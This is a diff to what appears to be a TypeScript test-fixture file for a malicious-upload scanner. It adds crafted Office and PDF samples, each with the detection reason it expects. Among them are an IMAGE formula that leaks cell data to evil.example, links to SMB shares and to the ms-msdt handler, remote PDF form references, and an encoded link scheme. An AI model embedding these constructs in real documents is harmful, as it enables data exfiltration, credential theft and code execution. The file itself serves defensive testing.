@@ -241,6 +241,49 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
             bytes: buildOfficeDocument(type, { "xl/worksheets/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
             reasons: ["officeLinked"],
           },
+          {
+            name: "a formula that fetches a picture",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": '<c><f>_xlfn.IMAGE("https://evil.example/?"&amp;A1)</f></c>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that links to a share",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("\\\\evil\\share","invoice")</f></c>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula that links to a program",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": '<c><f>HYPERLINK("ms-msdt:"&amp;A1)</f></c>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a formula in another language",
+            bytes: buildOfficeDocument(type, {
+              "xl/worksheets/sheet1.xml": "<c><f>_xlfn._xlws.PY(0,1,A1)</f></c>",
+            }),
+            reasons: ["officeMacro"],
+          },
+          {
+            name: "pictures of the web",
+            bytes: buildOfficeDocument(type, { "xl/richData/rdRichValueWebImage.xml": "<webImagesSrd/>" }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a query of the web",
+            bytes: buildOfficeDocument(type, {
+              "customXml/item1.xml": Buffer.from(
+                '\ufeff<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
+                "utf16le",
+              ),
+            }),
+            reasons: ["officeLinked"],
+          },
         ] as const)
       : ([
           {
@@ -255,6 +298,21 @@ export const buildOfficeAttacks = (type: typeof XLSX | typeof DOCX): MaliciousFi
             bytes: buildOfficeDocument(type, {
               "word/document.xml":
                 '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE&#65;UTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that links to a share",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml": '<w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil\\\\share&quot; "/>',
+            }),
+            reasons: ["officeLinked"],
+          },
+          {
+            name: "a field that links to a program, without quotes",
+            bytes: buildOfficeDocument(type, {
+              "word/document.xml":
+                '<w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK ms-msdt:/id \\o "invoice"</w:instrText><w:fldChar w:fldCharType="end"/>',
             }),
             reasons: ["officeLinked"],
           },
@@ -428,6 +486,52 @@ export const buildPdfAttacks = async (): Promise<MaliciousFile[]> => {
     [
       "a script as it opens",
       buildOnePagePdf({ catalogue: buildOpenAction("/S /JavaScript /JS (app.alert\\(1\\))") }),
+      "pdfScript",
+    ],
+    [
+      "a page of another file",
+      buildOnePagePdf({
+        more: [buildFlateStream("/Subtype /Form /Ref << /F (http://evil.example/a.pdf) /Page 0 >>", "x")],
+      }),
+      "pdfAttachment",
+    ],
+    [
+      "a page of another file that is named elsewhere",
+      buildOnePagePdf({
+        more: [
+          buildFlateStream("/Subtype /Form /Ref << /F 6 0 R /Page 0 >>", "x"),
+          "(http://evil.example/a.pdf)",
+        ],
+      }),
+      "pdfAttachment",
+    ],
+    [
+      "a file that is named for one system",
+      buildOnePagePdf({ more: [buildFlateStream("/OPI << /1.3 << /F << /UF (evil.tif) >> >> >>", "x")] }),
+      "pdfAttachment",
+    ],
+    [
+      "a link to a share",
+      buildOnePagePdf({
+        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\share) >> >>]",
+      }),
+      "pdfScript",
+    ],
+    [
+      "a link of no scheme that leads to a share",
+      buildOnePagePdf({ page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (//evil/share) >> >>]" }),
+      "pdfScript",
+    ],
+    [
+      "a link whose scheme is written in two bytes",
+      buildOnePagePdf({
+        page: "/Annots [<< /Subtype /Link /A << /S /URI /URI <FEFF00660069006C0065003A002F002F0061> >> >>]",
+      }),
+      "pdfScript",
+    ],
+    [
+      "a base of its links on a share",
+      buildOnePagePdf({ catalogue: "/URI << /Base (file://evil/share/) >>" }),
       "pdfScript",
     ],
     [
